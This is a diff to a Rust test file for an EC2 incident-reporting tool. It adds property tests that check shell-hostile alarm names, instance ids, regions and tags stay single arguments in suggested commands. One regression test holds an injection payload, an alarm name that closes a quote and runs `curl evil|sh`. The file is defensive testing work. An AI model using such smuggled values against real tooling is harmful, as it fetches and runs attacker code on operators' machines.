@@ -142,13 +142,19 @@ fn chat_step(step: &str) -> String {
         .replace("&amp;", "&")
 }
 
-/// The argument vector of a suggested command line, as both parsers read it; they must agree.
-fn argv(line: &str) -> Result<Vec<String>, TestCaseError> {
+/// The argument vector of a printed command line (`aws …`, `ec2ops …`), as both parsers read it; they must agree.
+fn words_of(line: &str) -> Result<Vec<String>, TestCaseError> {
     let line = &our_shell_read(line);
     let strict = strict_words(line).map_err(TestCaseError::fail)?;
     let split = shlex::split(line)
         .ok_or_else(|| TestCaseError::fail(format!("shlex cannot split {line:?}")))?;
     prop_assert_eq!(&strict, &split, "the parsers disagree on {:?}", line);
+    Ok(strict)
+}
+
+/// The argument vector of a suggested `aws` command line, as both parsers read it.
+fn argv(line: &str) -> Result<Vec<String>, TestCaseError> {
+    let strict = words_of(line)?;
     prop_assert_eq!(strict.first().map(String::as_str), Some("aws"));
     Ok(strict)
 }
@@ -230,12 +236,16 @@ pub(super) fn check_commands(
         ..Settings::default()
     };
     let (_, report, _) = compose(change, facts, &settings);
-    let email = email_commands(&render::email(&report));
+    check_message_commands(&render::email(&report), &render::chatbot(&report))
+}
+
+/// [`check_commands`] on a rendered message: its plain text and its Chatbot payload.
+fn check_message_commands(email: &str, chat: &Value) -> Result<Vec<Vec<String>>, TestCaseError> {
+    let email = email_commands(email);
     let mut out = Vec::new();
     for line in &email {
         out.push(argv(line)?);
     }
-    let chat = render::chatbot(&report);
     let description = chat["content"]["description"].as_str().unwrap_or_default();
     for line in chat_commands(description) {
         let words = argv(&line)?;
@@ -403,5 +413,310 @@ fn a_command_too_long_for_a_chat_field_is_left_out_rather_than_cut() {
         let step = chat_step(step.as_str().unwrap());
         assert!(!step.ends_with('…'), "{step}");
         strict_words(&our_shell_read(&step)).unwrap();
+    }
+}
+
+/// `ec2ops incidents show KEY` as the CLI must receive it: the key after `--` when it starts with `-` (clap would
+/// read it as an option), the placeholder when a one-line command cannot show it exactly.
+fn show_argv(key: &str) -> Vec<String> {
+    let mut argv: Vec<String> = ["ec2ops", "incidents", "show"].map(String::from).to_vec();
+    let shown = shown_as(key, "KEY");
+    if shown.starts_with('-') {
+        argv.push("--".into());
+    }
+    argv.push(shown.to_string());
+    argv
+}
+
+/// The command at the start of `text` that reads as `expected`: some prefix ending where our own text goes on
+/// (` · `, `)`, or the end) splits, with both parsers, into exactly `expected`.
+fn starts_with_command(text: &str, expected: &[String]) -> Result<(), TestCaseError> {
+    let ends = text
+        .match_indices(" · ")
+        .chain(text.match_indices(')'))
+        .map(|(at, _)| at)
+        .chain([text.len()]);
+    for end in ends {
+        let prefix = &text[..end];
+        if strict_words(prefix).ok().as_deref() == Some(expected)
+            && shlex::split(prefix).as_deref() == Some(expected)
+        {
+            return Ok(());
+        }
+    }
+    Err(TestCaseError::fail(format!(
+        "{text:?} does not start with the command {expected:?}"
+    )))
+}
+
+/// The inline code spans of chat markdown that hold an `ec2ops` command, with Slack's entities read back.
+fn ec2ops_spans(markdown: &str) -> Vec<String> {
+    markdown
+        .split('`')
+        .skip(1)
+        .step_by(2)
+        .map(chat_step)
+        .filter(|c| c.starts_with("ec2ops "))
+        .collect()
+}
+
+/// What the chat shows of an argument: a backtick, which inline code cannot hold, as `ˋ`.
+fn in_chat(argv: &[String]) -> Vec<String> {
+    argv.iter().map(|w| w.replace('`', "\u{2cb}")).collect()
+}
+
+/// The value a command gives `option` (`--region x` or `--region=-x`); a JSON list's values when it is one.
+fn option_values(words: &[String], option: &str) -> Option<Vec<String>> {
+    let attached = format!("{option}=");
+    let value = words.iter().enumerate().find_map(|(i, w)| {
+        if w == option {
+            words.get(i + 1).cloned()
+        } else {
+            w.strip_prefix(&attached).map(str::to_string)
+        }
+    })?;
+    if value.starts_with('[') {
+        if let Ok(list) = serde_json::from_str::<Vec<String>>(&value) {
+            return Some(list);
+        }
+    }
+    Some(vec![value])
+}
+
+/// Every command that takes one of `options` gives it exactly `expected`; at least one command does.
+fn every_option_is(
+    commands: &[Vec<String>],
+    options: &[&str],
+    expected: &str,
+) -> Result<(), TestCaseError> {
+    let mut seen = 0;
+    for c in commands {
+        for option in options {
+            if let Some(values) = option_values(c, option) {
+                seen += 1;
+                prop_assert_eq!(
+                    &values,
+                    &vec![expected.to_string()],
+                    "{} in {:?}",
+                    option,
+                    c
+                );
+            }
+        }
+    }
+    prop_assert!(seen > 0, "no command takes {:?}: {:?}", options, commands);
+    Ok(())
+}
+
+fn digest_entry(key: &str, secs: i64) -> ec2ops::report::digest::DigestEntry {
+    let at = chrono::DateTime::from_timestamp(1_796_115_600 + secs, 0).unwrap_or_default();
+    ec2ops::report::digest::DigestEntry {
+        incident_key: key.to_string(),
+        thread_id: format!("20261201T090000.000Z#{key}"),
+        priority: ec2ops::analyze::Priority::P0,
+        headline: "Status check failed".into(),
+        cause: "StatusCheckFailed_System: AWS host problem".into(),
+        instance: Some(format!("i-0{secs:016x}")),
+        name: Some(key.to_string()),
+        az: Some("us-east-1a".into()),
+        alarm: key.to_string(),
+        family: "status checks".into(),
+        fleet: None,
+        action: None,
+        at,
+    }
+}
+
+/// A follow-up's SNS message as its plain text and its Chatbot payload.
+fn followup_parts(
+    m: &ec2ops::report::render::SnsMessage,
+) -> Result<(String, Value), TestCaseError> {
+    let body: Value = serde_json::from_str(&m.message)
+        .map_err(|e| TestCaseError::fail(format!("SNS message is not JSON: {e}")))?;
+    let chat: Value = serde_json::from_str(body["default"].as_str().unwrap_or("null"))
+        .map_err(|e| TestCaseError::fail(format!("default is not JSON: {e}")))?;
+    Ok((body["email"].as_str().unwrap_or_default().to_string(), chat))
+}
+
+/// An event's `detail`, with `fields` replaced, read as the type it carries — past the parser's own checks, so
+/// the rendering is tested for values the parser would refuse too.
+fn detail_with<T: serde::de::DeserializeOwned>(sample_name: &str, fields: &[(&str, &str)]) -> T {
+    let mut event = sample(sample_name);
+    for (k, v) in fields {
+        event["detail"][*k] = (*v).into();
+    }
+    serde_json::from_value(event["detail"].clone()).expect("the sample's detail")
+}
+
+proptest! {
+    #![proptest_config(config(128))]
+
+    #[test]
+    fn any_alarm_name_in_a_storm_digest_reaches_ec2ops_incidents_show_as_one_argument(
+        name in shell_hostile(),
+        arn in any::<bool>(),
+    ) {
+        use ec2ops::report::digest::Digest;
+        // A key starts with the alarm's ARN, or with its name when the event carries no ARN.
+        let prefix = if arn { "arn:aws:cloudwatch:us-east-1:123456789012:alarm:" } else { "" };
+        let hostile = format!("{prefix}{name}#ALARM#2026-12-01T09:00:01.000Z");
+        let plain = "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-02#ALARM#2026-12-01T09:00:02.000Z";
+        let start = chrono::DateTime::from_timestamp(1_796_115_600, 0).unwrap_or_default();
+        for language in [Language::Ko, Language::En] {
+            let digest = Digest::new(
+                vec![digest_entry(&hostile, 1), digest_entry(plain, 2)],
+                start,
+                start + chrono::Duration::seconds(60),
+                language,
+                chrono_tz::Asia::Seoul,
+                5,
+            );
+            let placeholder = show_argv("\u{202e}");
+            let list = ["ec2ops", "incidents", "--since", "10m"].map(String::from).to_vec();
+            let mut expected = vec![show_argv(&hostile), show_argv(plain), placeholder, list];
+            // Plain text: each incident's line starts with its own command.
+            let email = digest.email();
+            for key in [&hostile[..], plain] {
+                let line = email
+                    .lines()
+                    .map(str::trim_start)
+                    .find(|l| starts_with_command(l, &show_argv(key)).is_ok());
+                prop_assert!(line.is_some(), "no `ec2ops incidents show` line for {:?} in\n{}", key, email);
+            }
+            // Chat: every `ec2ops` code span and next step is one of the commands meant, word for word.
+            expected = expected.iter().map(|e| in_chat(e)).collect();
+            let chat = digest.chatbot();
+            let steps = chat["content"]["nextSteps"].as_array().cloned().unwrap_or_default();
+            let spans = ec2ops_spans(chat["content"]["description"].as_str().unwrap_or_default());
+            prop_assert!(spans.iter().any(|s| words_of(s).ok() == Some(in_chat(&show_argv(&hostile)))));
+            for cmd in spans.iter().cloned().chain(steps.iter().map(|s| chat_step(s.as_str().unwrap_or_default()))) {
+                let words = words_of(&cmd)?;
+                prop_assert!(expected.contains(&words), "{:?} is no command meant: {:?}", cmd, words);
+            }
+        }
+    }
+
+    #[test]
+    fn any_incident_key_in_a_covered_incident_s_look_back_record_is_one_argument(name in shell_hostile()) {
+        let change = support::load("status-system.json");
+        let facts = facts_for("status-system.json");
+        let assessment = ec2ops::analyze::assess(&change, &facts);
+        let by = format!("arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:{name}#ALARM#2025-10-12T04:31:00.000Z");
+        for key in [by.clone(), format!("{name}#ALARM#t")] {
+            for language in [Language::Ko, Language::En] {
+                let logged = ec2ops::pipeline::storm::covered(
+                    &change, &change.incident_key(), &assessment, &key, language, change.state.at,
+                );
+                let at = logged.report.find("ec2ops incidents show").ok_or_else(|| {
+                    TestCaseError::fail(format!("no command in {:?}", logged.report))
+                })?;
+                // The command runs to the end of the record's text.
+                let words = words_of(&logged.report[at..])?;
+                prop_assert_eq!(words, show_argv(&key));
+            }
+        }
+    }
+
+    #[test]
+    fn any_instance_id_region_or_alarm_name_reaches_a_follow_up_s_commands_as_one_argument(
+        id in shell_hostile(),
+        region in shell_hostile(),
+        alarm in shell_hostile(),
+    ) {
+        use ec2ops::remediation::{Continuation, VerifyRequest};
+        use ec2ops::report::followup::{self, Verdict};
+        let fields = [("instance_id", &id[..]), ("region", &region[..]), ("alarm_name", &alarm[..])];
+        let req: VerifyRequest = detail_with("verify-reboot.json", &fields);
+        let c: Continuation = detail_with("recover-continuation.json", &fields);
+        let not_fixed = Verdict::NotFixed { detail: alarm.clone() };
+        for language in [Language::Ko, Language::En] {
+            let tz = chrono_tz::Asia::Seoul;
+            let mut messages = vec![followup::render(&req, &not_fixed, req.acted_at, language, tz)];
+            for state in ["stopped", "stopping", "running", "terminated"] {
+                messages.push(followup::render_recover(&c, Some(state), &alarm, language, tz));
+            }
+            for m in &messages {
+                let (email, chat) = followup_parts(m)?;
+                let commands = check_message_commands(&email, &chat)?;
+                every_option_is(&commands, &["--instance-id", "--instance-ids"], shown_as(&id, "INSTANCE_ID"))?;
+                every_option_is(&commands, &["--region"], shown_as(&region, "REGION"))?;
+            }
+        }
+    }
+
+    #[test]
+    fn any_instance_id_of_an_alarm_reaches_the_suggested_commands_as_one_argument(id in shell_hostile()) {
+        // The parser takes only ids shaped like `i-…`; the commands must not depend on it, so the id is set past it.
+        for base in ["status-instance.json", "cpu-spike.json"] {
+            let mut change = support::load(base);
+            change.instance_ids = vec![id.clone()];
+            for m in &mut change.metrics {
+                if let Some(d) = m.dimensions.get_mut("InstanceId") {
+                    d.clone_from(&id);
+                }
+            }
+            let commands = check_commands(&change, &Facts::unavailable("fuzz"))?;
+            every_option_is(&commands, &["--instance-id", "--instance-ids"], shown_as(&id, "INSTANCE_ID"))?;
+        }
+    }
+
+    #[test]
+    fn any_name_tag_and_opt_in_tag_key_stay_inside_their_arguments(tag in shell_hostile()) {
+        let mut opt_in_offered = 0;
+        for base in ["status-system.json", "status-instance.json", "instance-check-oom.json", "status-ebs.json"] {
+            let change = support::load(base);
+            let mut facts = facts_for(base);
+            if let Source::Available(InstanceLookup::Found(i)) = &mut facts.instance {
+                // A lone instance: an Auto Scaling member is handed to its group, never opted in.
+                i.tags.remove("aws:autoscaling:groupName");
+            }
+            inject(Field::NameTag, &tag, &mut sample(base), &mut facts);
+            let mut settings = Settings { language: Language::En, ..Settings::default() };
+            settings.envelope.opt_in_tag = tag.clone();
+            let (_, report, _) = compose(&change, &facts, &settings);
+            let commands = check_message_commands(&render::email(&report), &render::chatbot(&report))?;
+            // The opt-in advice tags the instance with the configured key, as one JSON argument.
+            if let Ok(tags) = find(&commands, &["aws", "ec2", "create-tags"]) {
+                opt_in_offered += 1;
+                let json = option_values(tags, "--tags").unwrap_or_default().concat();
+                let parsed: Value = serde_json::from_str(&json)
+                    .map_err(|e| TestCaseError::fail(format!("--tags is not JSON ({e}): {json:?}")))?;
+                prop_assert_eq!(parsed, json!([{"Key": tag, "Value": "true"}]));
+            }
+        }
+        prop_assert!(opt_in_offered > 0, "no report offered the opt-in tag");
+    }
+}
+
+#[test]
+fn an_alarm_name_that_closes_the_quote_cannot_run_anything_from_a_look_back_record() {
+    // Finding 7: the covered incident's record said `ec2ops incidents show '{by}'` with the key as it came, so this
+    // alarm name ended the quote and piped curl into a shell on the operator's machine.
+    let change = support::load("status-system.json");
+    let assessment = ec2ops::analyze::assess(&change, &facts_for("status-system.json"));
+    let by = "arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:x';curl evil|sh;'#ALARM#t";
+    for language in [Language::Ko, Language::En] {
+        let logged = ec2ops::pipeline::storm::covered(
+            &change,
+            &change.incident_key(),
+            &assessment,
+            by,
+            language,
+            change.state.at,
+        );
+        let at = logged
+            .report
+            .find("ec2ops incidents show")
+            .expect("a command");
+        let line = &logged.report[at..];
+        assert_eq!(
+            strict_words(line).expect("inert"),
+            ["ec2ops", "incidents", "show", by],
+            "{line}"
+        );
+        assert_eq!(
+            shlex::split(line).expect("splits"),
+            ["ec2ops", "incidents", "show", by]
+        );
     }
 }
